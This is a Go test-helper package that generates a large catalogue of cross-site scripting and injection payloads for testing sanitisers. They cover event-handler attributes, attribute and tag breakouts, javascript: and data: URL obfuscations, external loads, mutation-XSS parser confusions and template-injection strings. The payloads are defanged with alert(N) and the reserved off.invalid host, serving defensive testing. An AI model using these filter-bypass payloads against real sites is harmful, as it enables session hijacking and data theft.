// Package hostile makes folders of records that would run, steer, inject or escape wherever one place forgot to guard
// itself. Only tests import it.
//
// Its law: the words are its own, and so is the list. What a payload asks for is harmless: a dialog, a request to
// off.invalid, a line of its own.
package hostile

import (
	"fmt"
	"strings"
)

// Payload is one text. Kind says what it would do and how.
type Payload struct {
	Kind, Text string
}

// kind is a group of payloads that one mistake would let through.
type kind struct {
	name  string
	texts []string
}

// Payloads returns all, each once: N in each is its number, from 1000.
func Payloads() (out []Payload) {
	for _, kinds := range [][]kind{handlers(), closers(), addresses(), loads(), confusions(), clobbers(), lines(),
		prompts(), paths(), drawings()} {
		for _, k := range kinds {
			for _, text := range k.texts {
				out = append(out, Payload{k.name, strings.ReplaceAll(text, "N", fmt.Sprint(1000+len(out)))})
			}
		}
	}
	return out
}

// OneOfEach returns the first of each kind and of the rest every n-th, from the offset-th on.
func OneOfEach(n, offset int) (out []Payload) {
	last := ""
	for i, p := range Payloads() {
		if p.Kind != last || i%n == offset {
			out = append(out, p)
		}
		last = p.Kind
	}
	return out
}

// handlers are attributes that run, on elements that an author might be allowed.
func handlers() (out []kind) {
	events := []string{"onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
		"onpointerenter", "onstart", "onloadstart"}
	for _, element := range []string{"<img src=x %s>", "<svg %s>", "<details open %s>", "<input autofocus %s>",
		"<video src=x %s>", "<body %s>", "<iframe src=./ %s>", "<marquee %s>", "<a href=# tabindex=1 %s>x</a>",
		"<math %s>"} {
		k := kind{name: "handler of " + strings.Fields(strings.Trim(element, "<>"))[0]}
		for _, e := range events {
			k.texts = append(k.texts, fmt.Sprintf(element, e+"=alert(N)"))
		}
		out = append(out, k)
	}
	return append(out, kind{"handler behind an odd sign", []string{"<img/src=x\x0conerror=alert(N)>",
		"<img src=x onerror\x0b=alert(N)>", "<IMG SRC=x OnErRoR=alert(N)>", "<img src='x\\' onerror='alert(N)'>",
		"<img \"\"\"><script>alert(N)</script>\">", "<img src=x\r\nonerror\r\n=\r\nalert(N)>",
		"<b onclick\x00=alert(N)>x</b>", "<b title='x'onclick=alert(N)>x</b>", "<b x=`y` onclick=alert(N)>x</b>",
		"<a href=x\u2028onclick=alert(N)>x</a>"}})
}

// closers end the place that a text stands in, and go on as markup.
func closers() (out []kind) {
	cores := []string{"<script>alert(N)</script>", "<img src=x onerror=alert(N)>", " onload=alert(N) x=",
		" autofocus tabindex=1 onfocus=alert(N) x=", "<svg/onload=alert(N)>"}
	for _, place := range []kind{
		{"out of an attribute", []string{`"`, `'`, "`", `&quot;>`, `\">`, `%22%3E`}},
		{"out of a tag", []string{`">`, `'>`, `/>`}},
		{"out of a comment", []string{`-->`, `--!>`, `]]>`}},
		{"out of an element's raw text", []string{`</title>`, `</script>`, `</style>`, `</textarea>`, `</noscript>`}},
		{"out of blocks", []string{`</code></pre>`, `</p></div></main>`, `</svg>`, `</summary></details>`,
			`</td></tr></table>`}},
		{"out of a template's hole", []string{`}}`, `%>`}},
	} {
		k := kind{name: place.name}
		for _, closer := range place.texts {
			for _, core := range cores {
				k.texts = append(k.texts, closer+core)
			}
		}
		out = append(out, k)
	}
	return out
}

// addresses lead where no link may lead.
func addresses() []kind {
	return []kind{
		{"javascript:", []string{"javascript:alert(N)", "JaVaScRiPt:alert(N)", " javascript:alert(N)",
			"javascript://%0aalert(N)", "javascript:/*--></title></style></textarea></script>*/alert(N)",
			"javascript:\u2028alert(N)"}},
		{"javascript: in references", []string{"javascript&colon;alert(N)", "javascript&#58;alert(N)",
			"&#106;avascript:alert(N)", "&#x6A;avascript:alert(N)", "java&#9;script:alert(N)",
			"java&#10;script:alert(N)", "java&Tab;script:alert(N)", "&#0000106avascript:alert(N)",
			"&amp;#106;avascript:alert(N)"}},
		{"javascript: with control bytes", []string{"java\tscript:alert(N)", "\x01javascript:alert(N)",
			"javascript\x1f:alert(N)", "\u200bjavascript:alert(N)", "java\u00adscript:alert(N)", "\ufeffjavascript:alert(N)"}},
		{"javascript: in escapes", []string{"java%0ascript:alert(N)", "javascript%3Aalert(N)",
			"javascript\u003aalert(N)", "ｊavascript:alert(N)", "javascript：alert(N)", "jav\\u0061script:alert(N)"}},
		{"javascript: within another", []string{"feed:javascript:alert(N)", "view-source:javascript:alert(N)",
			"jar:javascript:alert(N)!/", "x:javascript:alert(N)", "mailto:javascript:alert(N)", "tel:javascript:alert(N)",
			"https:javascript:alert(N)"}},
		{"vbscript:", []string{"vbscript:alert(N)", "VbScript:MsgBox(N)"}},
		{"data:", []string{"data:text/html,<script>alert(N)</script>",
			"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#N", "data:image/svg+xml,<svg onload=alert(N)>",
			"data:application/xhtml+xml,<x onload=alert(N)/>", "DATA:,N"}},
		{"blob: and filesystem:", []string{"blob:http://off.invalid/N", "filesystem:http://off.invalid/temporary/N"}},
		{"schemes of programs", []string{"file:///etc/passwd?N", "ms-word:ofe|u|http://off.invalid/N",
			"vscode://file/etc/passwd:N", "ssh://-oProxyCommand=N", "intent://off.invalid/N#Intent;scheme=http;end",
			"about:blank#N", "chrome://settings/N", "ws://off.invalid/N", "ldap://off.invalid/N"}},
		{"another host without its scheme", []string{"//off.invalid/N", `\\off.invalid\N`, `/\off.invalid/N`,
			"https:off.invalid/N", "http:/off.invalid/N", "..//off.invalid/N", "/\t/off.invalid/N", "//off.invalid/N.svg#x",
			"///off.invalid/N"}},
		{"a host that looks like another", []string{"https://example.org@off.invalid/N",
			"https://example.org.off.invalid/N", "https://example.org%2f@off.invalid/N",
			"https://ехаmple.org/N", "https://example.org\u2044.off.invalid/N", "https://off.invalid\\@example.org/N",
			"http://off.invalid/N.png", "https://[::1]:N/", "https://example.org:80:N/"}},
	}
}

// loads ask another host.
func loads() []kind {
	return []kind{
		{"a style sheet", []string{"<link rel=stylesheet href=//off.invalid/N>",
			"<style>@import url(//off.invalid/N)</style>", "<style>*{background:url(//off.invalid/N)}</style>"}},
		{"<base>", []string{"<base href=//off.invalid/N/>", "<base target=_top href='javascript:N/'>"}},
		{"meta refresh", []string{"<meta http-equiv=refresh content=0;url=//off.invalid/N>",
			"<meta http-equiv=refresh content='0;javascript:alert(N)'>", "<meta http-equiv=set-cookie content=N>",
			"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>alert(N)</script>"}},
		{"an object", []string{"<object data=//off.invalid/N>", "<embed src=//off.invalid/N>",
			"<applet code=N archive=//off.invalid/N>", "<portal src=//off.invalid/N>"}},
		{"a picture", []string{"<img src=//off.invalid/N>", "<img src=http://off.invalid/N.png>",
			"<img lowsrc=//off.invalid/N>", "<input type=image src=//off.invalid/N>", "<image src=//off.invalid/N>"}},
		{"srcset", []string{"<img srcset=//off.invalid/N>", "<picture><source srcset=//off.invalid/N><img src=x></picture>",
			"<img src=x srcset='javascript:alert(N) 2x'>", "<link rel=preload as=image imagesrcset=//off.invalid/N>"}},
		{"video and audio", []string{"<video poster=//off.invalid/N>", "<video src=//off.invalid/N autoplay>",
			"<audio src=//off.invalid/N autoplay>", "<video><track src=//off.invalid/N default></video>",
			"<video><source src=x onerror=alert(N)></video>"}},
		{"a form", []string{"<form action=//off.invalid/N><button autofocus>x</button></form>",
			"<form id=x></form><button form=x formaction=javascript:alert(N)>x",
			"<isindex action=javascript:alert(N) type=image>", "<keygen autofocus onfocus=alert(N)>",
			"<form action=javascript:alert(N)><input type=submit>", "<button formaction=//off.invalid/N>x</button>",
			"<dialog open><form method=dialog action=//off.invalid/N>"}},
		{"ping", []string{"<a ping=//off.invalid/N href=#>x</a>", "<area ping=//off.invalid/N href=#>"}},
		{"style=", []string{"<div style=background:url(//off.invalid/N)>x</div>",
			"<p style='list-style:url(//off.invalid/N)'>x", "<p style='width:expression(alert(N))'>x",
			"<p style='behavior:url(//off.invalid/N)'>x", "<p style='-moz-binding:url(//off.invalid/N)'>x",
			"<p style='position:fixed;inset:0;z-index:99'>N"}},
		{"an SVG that asks", []string{"<svg><image href=//off.invalid/N /></svg>",
			"<svg><use href=//off.invalid/N#x /></svg>", "<svg><feImage href=//off.invalid/N /></svg>",
			"<svg><use xlink:href='data:image/svg+xml,<svg id=x onload=alert(N)>#x' /></svg>",
			"<svg><pattern id=p><image xlink:href=//off.invalid/N /></pattern><rect fill=url(#p) /></svg>"}},
		{"a frame", []string{"<iframe src=//off.invalid/N></iframe>",
			"<iframe srcdoc='<script>alert(N)</script>'></iframe>", "<frameset><frame src=//off.invalid/N></frameset>",
			"<iframe src='javascript:alert(N)'>", "<fencedframe src=//off.invalid/N>"}},
		{"background=", []string{"<body background=//off.invalid/N>",
			"<table background=//off.invalid/N><td background=//off.invalid/N>x</table>"}},
		{"a link of the head", []string{"<link rel=preconnect href=//off.invalid/N>",
			"<link rel=dns-prefetch href=//off.invalid/N>", "<link rel=prefetch href=//off.invalid/N>",
			"<link rel=modulepreload href=//off.invalid/N>", "<link rel=icon href=//off.invalid/N>",
			"<link rel=manifest href=//off.invalid/N>", "<link rel=import href=//off.invalid/N>"}},
		{"a script from elsewhere", []string{"<script src=//off.invalid/N></script>",
			"<script type=module>import '//off.invalid/N'</script>",
			"<script type=importmap>{\"imports\":{\"x\":\"//off.invalid/N\"}}</script>",
			"<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//off.invalid/N\"]}]}</script>"}},
		{"a picture of Markdown", []string{"![x](https://off.invalid/N.png)", "![x](//off.invalid/N.png \"N\")",
			"[![x](//off.invalid/N)](//off.invalid/N)", "![[https://off.invalid/N.png]]",
			"![x](x.svg#N<script>alert(N)</script>)", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoTik+)"}},
	}
}

// confusions are read in one way by whoever guards and in another by a browser.
func confusions() []kind {
	return []kind{
		{"mutation in noscript", []string{"<noscript><p title=\"</noscript><img src=x onerror=alert(N)>\">"}},
		{"mutation in style", []string{"<svg></p><style><a id=\"</style><img src=1 onerror=alert(N)>\">",
			"<select><option><style></option></select><script>alert(N)</script></style>"}},
		{"mutation in math", []string{"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 " +
			"onerror=alert(N)&gt;\">",
			"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(N)>",
			"<math><annotation-xml encoding=text/html><script>alert(N)</script></annotation-xml></math>",
			"<math><maction actiontype=statusline xlink:href=javascript:alert(N)>x</maction></math>",
			"<math href=javascript:alert(N)><mi>x</mi></math>"}},
		{"foreignObject", []string{"<svg><foreignObject><script>alert(N)</script></foreignObject></svg>",
			"<svg><desc><img src=x onerror=alert(N)></desc></svg>",
			"<svg><title><style><img src=x onerror=alert(N)></style></title></svg>"}},
		{"a script of SVG", []string{"<svg><script>alert(N)</script></svg>", "<svg><script href=//off.invalid/N /></svg>"}},
		{"an animation", []string{"<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
			"<svg><a><animate attributeName=href values=javascript:alert(N) /><text>x</text></a></svg>",
			"<svg><set attributeName=onmouseover to=alert(N)>", "<svg><animate attributeName=href to=javascript:alert(N)>"}},
		{"a template", []string{"<template><script>alert(N)</script></template>",
			"<template shadowrootmode=open><script>alert(N)</script></template>"}},
		{"raw text of old", []string{"<xmp><p title=\"</xmp><svg/onload=alert(N)>\">",
			"<textarea><p title=\"</textarea><svg/onload=alert(N)>\">", "<title><p title=\"</title><svg/onload=alert(N)>\">",
			"<plaintext><script>alert(N)</script>", "<listing>&lt;img src=x onerror=alert(N)&gt;</listing>"}},
		{"a declaration", []string{"<![CDATA[><script>alert(N)</script>]]>",
			"<?xml-stylesheet href=\"javascript:alert(N)\"?><script>alert(N)</script>",
			"<!DOCTYPE x [<!ENTITY y SYSTEM \"//off.invalid/N\">]>&y;", "<!--><script>alert(N)</script>-->",
			"<!-- --!><script>alert(N)</script>", "<![if !IE]><script>alert(N)</script><![endif]>"}},
		{"tags in tags", []string{"<scr<script>ipt>alert(N)</scr</script>ipt>", "<<script>alert(N)//<</script>",
			"<script\x0c>alert(N)</script>", "<script/x>alert(N)</script\t>", "<a\n<script>alert(N)</script>",
			"</<script>alert(N)</script>"}},
		{"an address of raw HTML", []string{"<a href=\"java&#x0A;script:alert(N)\">x</a>",
			"<a href=' &#14; javascript:alert(N)'>x</a>", "<a href=\"x\" href=\"javascript:alert(N)\">x</a>",
			"<a href=javascript&colon;alert&lpar;N&rpar;>x</a>", "<a xlink:href=javascript:alert(N)>x</a>",
			"<a target=_blank rel=opener href=//off.invalid/N>x</a>", "<a download=N.exe href=x>x</a>"}},
		{"delimiters of templates", []string{"{{constructor.constructor('alert(N)')()}}", "${alert(N)}", "#{alert(N)}",
			"<%= alert(N) %>", "{{template \"top\" .}}N", "{% raw %}N{% include '/etc/passwd' %}", "{{.Site}}N{{body 0}}",
			"[[${N}]]", "%s%n%d%!N(MISSING)"}},
		{"signs that turn the line", []string{"\u202e>)N(trela=rorreno x=crs gmi<", "\u2066N\u2069\u202etxt.exe",
			"\u200f\u061cN", "a\u0300\u0301\u0302\u0303\u0304\u0305N"}},
		{"another encoding", []string{"\ufeff<script>alert(N)</script>", "＜script＞alert(N)＜/script＞",
			"+ADw-script+AD4-alert(N)+ADw-/script+AD4-", "%3Cscript%3Ealert(N)%3C/script%3E",
			"&lt;script&gt;alert(N)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(N)",
			"\\u003cscript\\u003ealert(N)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(N)", "\xc0\xbcscript\xc0\xbealert(N)"}},
		{"line separators", []string{"a\u2028alert(N)//", "a\u2029alert(N)//", "a\u0085N", "a\vN\fb"}},
	}
}
